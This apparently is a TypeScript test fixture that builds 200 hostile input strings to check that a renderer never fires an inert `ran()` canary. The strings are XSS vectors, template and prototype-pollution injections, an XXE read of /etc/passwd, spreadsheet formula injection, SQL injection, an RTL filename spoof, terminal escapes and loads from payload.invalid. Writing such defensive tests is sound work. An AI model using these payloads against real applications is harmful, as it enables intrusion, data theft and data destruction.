/**
 * Texts that try to be more than text wherever they are shown: markup, addresses, templates, formulas, control
 * characters. Each asks for `ran()`, which no page of ours has; whoever shows them counts whether it was called.
 */

/** Ways to have something run. Some are another language's template strings, and meant as they stand. */
const runs = [
  '<script>ran()</script>',
  '<ScRiPt >ran()</sCrIpT>',
  '<script src="https://payload.invalid/ran.js"></script>',
  '<img src=x onerror=ran()>',
  '<img/src/onerror=ran()>',
  '<svg onload=ran()>',
  '<svg><script>ran()</script></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg onload=ran()>"/></svg>',
  '<math><mtext><mglyph><style><img src=x onerror=ran()>',
  '<body onload=ran()>',
  '<iframe srcdoc="<script>parent.ran()</script>">',
  '<iframe src="javascript:parent.ran()">',
  '<object data="javascript:ran()">',
  '<embed src="data:text/html,<script>ran()</script>">',
  '<a href="javascript:ran()">press</a>',
  '<a href="java\tscript:ran()">press</a>',
  '<a href="https://payload.invalid/" target="_blank">press</a>',
  '<form action="javascript:ran()"><button>press</button></form>',
  '<input autofocus onfocus=ran()>',
  '<details open ontoggle=ran()>',
  '<video><source onerror=ran()>',
  '<marquee onstart=ran()>',
  '<base href="https://payload.invalid/">',
  '<meta http-equiv="refresh" content="0;url=javascript:ran()">',
  '<link rel="stylesheet" href="https://payload.invalid/a.css">',
  '<style>@import "https://payload.invalid/a.css"; * { background: url(https://payload.invalid/b) }</style>',
  '<template shadowrootmode="open"><script>ran()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<![CDATA[<script>ran()</script>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '<!--><script>ran()</script-->',
  'javascript:ran()',
  'data:text/html,<script>ran()</script>',
  "');ran();//",
  '";ran();//',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the braces are the payload.
  '`${ran()}`',
  '{{constructor.constructor("ran()")()}}',
  '{{ran()}} {{{ran()}}} {{- ran()}} $t(bug.title) {{count}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the braces are the payload.
  '<%= ran() %> #{ran()} ${ran()} [[ran()]]',
  '__proto__',
  'constructor',
  '=cmd|"/c calc"!A1',
  '@SUM(1+1)*ran()',
  '＝HYPERLINK("https://payload.invalid/","press")',
  '\t=1+1',
  "'; DROP TABLE record; --",
  'https://payload.invalid/?q=<script>ran()</script>',
  '\u202ecod.exe\u202c ran()',
  '\u001b]0;ran()\u0007\u001b[2J ran()',
];

/** What a text may be put behind to get out of where it stands. */
const wayOut: ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'/></title></text></textarea></style></script>${text}`,
  (text) => `-->]]>${text}<!--`,
];

/** 200 texts, each another. */
export const hostileTexts: readonly string[] = wayOut.flatMap((dressed) => runs.map(dressed));
